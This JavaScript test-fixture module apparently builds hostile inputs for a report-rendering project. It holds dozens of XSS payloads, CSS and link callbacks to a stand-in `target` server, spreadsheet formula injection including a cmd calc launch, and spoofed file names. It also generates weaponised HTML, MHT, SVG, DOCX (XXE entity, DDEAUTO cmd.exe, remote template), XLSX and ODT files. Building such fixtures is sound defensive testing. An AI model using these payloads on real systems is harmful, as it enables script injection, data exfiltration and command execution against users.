// Hostile words and files: what has made other pages run a stranger's script, ask a stranger's
// server, or show what is not there. All written for this project; `target` is a server that
// must never hear of them.

import { crc32 } from "node:zlib";

/** Words to stand wherever a report has words. Each would say `alert`, ask `target`, or make an element. */
export const words = (target) => [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(2)>",
  "<svg onload=alert(3)>",
  "<svg><script>alert(4)</script></svg>",
  "<svg><animate onbegin=alert(5) attributeName=x dur=1s></svg>",
  "<iframe srcdoc=\"<script>parent.alert(6)</script>\"></iframe>",
  "<a href=\"javascript:alert(7)\">办理</a>",
  "<a href=\"java&#x09;script:alert(8)\">办理</a>",
  "<form action=\"javascript:alert(9)\"><button autofocus onfocus=alert(9)>交</button></form>",
  "<details open ontoggle=alert(10)>详</details>",
  "<video><source onerror=alert(11)></video>",
  "<input autofocus onfocus=alert(12)>",
  "<marquee onstart=alert(13)>动</marquee>",
  "<object data=\"javascript:alert(14)\"></object><embed src=\"javascript:alert(14)\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(15)&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(16)>\"></noscript>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(17)>\"></svg>",
  "<template><img src=x onerror=alert(18)></template><select><template shadowrootmode=open><script>alert(18)</script></template></select>",
  "<form id=app><input name=textContent><input name=attributes></form><img name=createElement><a id=nianbaoBoot href=x>改</a>",
  "\"><img src=x onerror=alert(20)><x y=\"",
  "'-alert(21)-'",
  "</textarea><script>alert(22)</script>",
  "</title><script>alert(23)</script>",
  "</style><script>alert(24)</script>",
  "<!--><img src=x onerror=alert(25)>-->",
  "{{constructor.constructor('alert(26)')()}} ${alert(26)} <%= alert(26) %> #{alert(26)}",
  "&lt;img src=x onerror=alert(27)&gt; &#60;script&#62;alert(27)&#60;/script&#62;",
  "[点此](javascript:alert(28)) ![图](x\" onerror=\"alert(28)) <javascript:alert(28)>",
  `<img src="${target}payload-29">`,
  `![图](${target}payload-30) [链接]: ${target}payload-30`,
  `<link rel=stylesheet href="${target}payload-31"><style>@import "${target}payload-31";</style>`,
  `<div style="background:url(${target}payload-32)">背景</div>`,
  `<style>body{background:url(${target}payload-33)} [value^="1"]{background:url(${target}payload-33)}</style>`,
  `<meta http-equiv=refresh content="0;url=${target}payload-34">`,
  `<base href="${target}payload-35/">`,
  `<link rel=prefetch href="${target}payload-36"><link rel=dns-prefetch href="${target}"><link rel=preconnect href="${target}">`,
  `<body background="${target}payload-37"><table background="${target}payload-37"><td background="${target}payload-37">`,
  `<a ping="${target}payload-38" href="#" autofocus>响</a><form action="${target}payload-38"><button>交</button></form>`,
  `<svg><image href="${target}payload-39"/><use href="${target}payload-39#a"/></svg>`,
  "=cmd|' /C calc'!A0",
  `=HYPERLINK("${target}payload-41","点")`,
  `=WEBSERVICE("${target}payload-42"&A1)`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\u202E件gnp.exe\u2066年报\u2069",
  "\u0000\u001b]0;标题\u0007\u001b[2J",
  "__proto__ constructor toString hasOwnProperty",
];

/** Names of files; a slash can't stand in one. */
export const names = [
  "<img src=x onerror=alert(101)>.txt",
  "\"><svg onload=alert(102)>.txt",
  "'onmouseover='alert(103)'.txt",
  "javascript:alert(104).txt",
  "{{constructor.constructor('alert(105)')()}}.txt",
  "年报\u202Etxt.exe.txt",
  "=cmd|' C calc'!A0.txt",
  "__proto__.txt",
  "<iframe srcdoc='&lt;script&gt;parent.alert(108)&lt;&sol;script&gt;'>.txt",
];

const escaped = (text) =>
  text.replace(/[\0-\x08\x0b\x0c\x0e-\x1f]/g, "").replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);

/** A page of the web whose markup is the payloads themselves, once alive and once as words, around a table. */
export function html(target) {
  const rows = words(target).map((word) => `<tr><td>${escaped(word)}</td><td>${word}</td><td>1</td></tr>`);
  return `<!doctype html><html><head><meta charset="utf-8"><title>年度报告</title>
    <meta http-equiv="refresh" content="0;url=${target}payload-html"><base href="${target}payload-html/">
    <script>alert("html")</script><link rel="stylesheet" href="${target}payload-html"></head>
    <body onload="alert('html')" background="${target}payload-html"><h1>青石县2024年政府信息公开工作年度报告</h1>
    <h2>一、总体情况</h2><p>收到申请 5 件。<img src="${target}payload-html" onerror="alert('html')"></p>
    <h2>二、主动公开政府信息情况</h2><table>${rows.join("")}</table></body></html>`;
}

/** The same as a web archive, with a script of its own beside it. */
export const mht = (target) => [
  "MIME-Version: 1.0",
  "Content-Type: multipart/related; type=\"text/html\"; boundary=\"--part\"",
  "",
  "----part",
  "Content-Type: text/html; charset=\"utf-8\"",
  "Content-Transfer-Encoding: 8bit",
  `Content-Location: ${target}payload-mht`,
  "",
  html(target).replace("</head>", `<script src="cid:script@payload"></script></head>`),
  "----part",
  "Content-Type: text/javascript",
  "Content-ID: <script@payload>",
  "",
  "alert('mht')",
  "----part--",
  "",
].join("\r\n");

/** A drawing that runs a script where it is opened. */
export const svg = (target) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')">
  <script>alert("svg")</script><image href="${target}payload-svg"/>
  <foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert('svg')"/></body></foreignObject></svg>`;

/** A zip of stored files: all that an office program's container needs. */
function zip(files) {
  const parts = [];
  const directory = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const [path, body] = [Buffer.from(name), Buffer.from(text)];
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(0x0800, 2); // names in UTF-8
    common.writeUInt16LE(0x21, 8); // the first of January 1980
    common.writeUInt32LE(crc32(body), 10);
    common.writeUInt32LE(body.length, 14);
    common.writeUInt32LE(body.length, 18);
    common.writeUInt16LE(path.length, 22);
    const entry = Buffer.alloc(14);
    entry.writeUInt32LE(offset, 10);
    directory.push(Buffer.from("PK\x01\x02\x14\0"), common, entry, path);
    parts.push(Buffer.from("PK\x03\x04"), common, path, body);
    offset += 30 + path.length + body.length;
  }
  const end = Buffer.alloc(18);
  end.writeUInt16LE(Object.keys(files).length, 4);
  end.writeUInt16LE(Object.keys(files).length, 6);
  end.writeUInt32LE(Buffer.concat(directory).length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...parts, ...directory, Buffer.from("PK\x05\x06"), end]);
}

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const external = (id, kind, address) =>
  `<Relationship Id="${id}" Type="${OFFICE}/${kind}" TargetMode="External" Target="${escaped(address)}"/>`;

/** A Word document: the words in paragraphs and a table, with pictures, links, frames and a template from outside. */
export function docx(target) {
  const run = (word) => `<w:p><w:r><w:t xml:space="preserve">${escaped(word)}</w:t></w:r></w:p>`;
  const row = (word) => `<w:tr><w:tc>${run(word)}</w:tc><w:tc>${run("1")}</w:tc></w:tr>`;
  return zip({
    "[Content_Types].xml": `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/></Types>`,
    "_rels/.rels": `${XML}<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    "word/_rels/document.xml.rels": `${XML}<Relationships xmlns="${RELATIONSHIPS}">
      ${external("r1", "image", `${target}payload-docx`)}${external("r2", "hyperlink", "javascript:alert('docx')")}
      ${external("r3", "attachedTemplate", `${target}payload-docx`)}${external("r4", "frame", `${target}payload-docx`)}
      <Relationship Id="r5" Type="${OFFICE}/aFChunk" Target="chunk.html"/></Relationships>`,
    "word/chunk.html": html(target),
    "word/document.xml": `${XML}<!DOCTYPE w:document [<!ENTITY far SYSTEM "${target}payload-entity">]>
      <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:body>
      ${run("青石县2024年政府信息公开工作年度报告")}${run("一、总体情况")}<w:altChunk r:id="r5"/>
      <w:p><w:hyperlink r:id="r2"><w:r><w:t>办理</w:t></w:r></w:hyperlink></w:p>
      <w:p><w:r><w:instrText>INCLUDEPICTURE "${target}payload-docx" DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>
      ${words(target).map(run).join("")}<w:tbl>${words(target).map(row).join("")}</w:tbl></w:body></w:document>`,
  });
}

/** A sheet: the words as texts, and as formulas with results. */
export function xlsx(target) {
  const main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
  const row = (word, index) =>
    `<row r="${index + 1}"><c r="A${index + 1}" t="inlineStr"><is><t>${escaped(word)}</t></is></c>
     <c r="B${index + 1}" t="str"><f>HYPERLINK("${target}payload-xlsx")</f><v>${escaped(word)}</v></c></row>`;
  return zip({
    "[Content_Types].xml": `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    "_rels/.rels": `${XML}<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    "xl/workbook.xml": `${XML}<workbook xmlns="${main}" xmlns:r="${OFFICE}"><sheets><sheet name="&lt;img src=x onerror=alert(1)&gt;" sheetId="1" r:id="r1"/></sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": `${XML}<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    "xl/worksheets/sheet1.xml": `${XML}<worksheet xmlns="${main}"><sheetData>${words(target).map(row).join("")}</sheetData></worksheet>`,
  });
}

/** An OpenDocument text: the words, scripts, and pictures from outside. */
export function odt(target) {
  const paragraph = (word) => `<text:p>${escaped(word)}</text:p>`;
  return zip({
    mimetype: "application/vnd.oasis.opendocument.text",
    "META-INF/manifest.xml": `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>`,
    "content.xml": `${XML}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
      xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
      xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">
      <office:scripts><office:script script:language="JavaScript">alert("odt")</office:script></office:scripts>
      <office:body><office:text>${paragraph("青石县2024年政府信息公开工作年度报告")}${paragraph("一、总体情况")}
      <text:p><draw:frame><draw:image xlink:href="${target}payload-odt"/></draw:frame>
      <text:a xlink:href="javascript:alert('odt')">办理</text:a></text:p>
      ${words(target).map(paragraph).join("")}</office:text></office:body></office:document-content>`,
  });
}
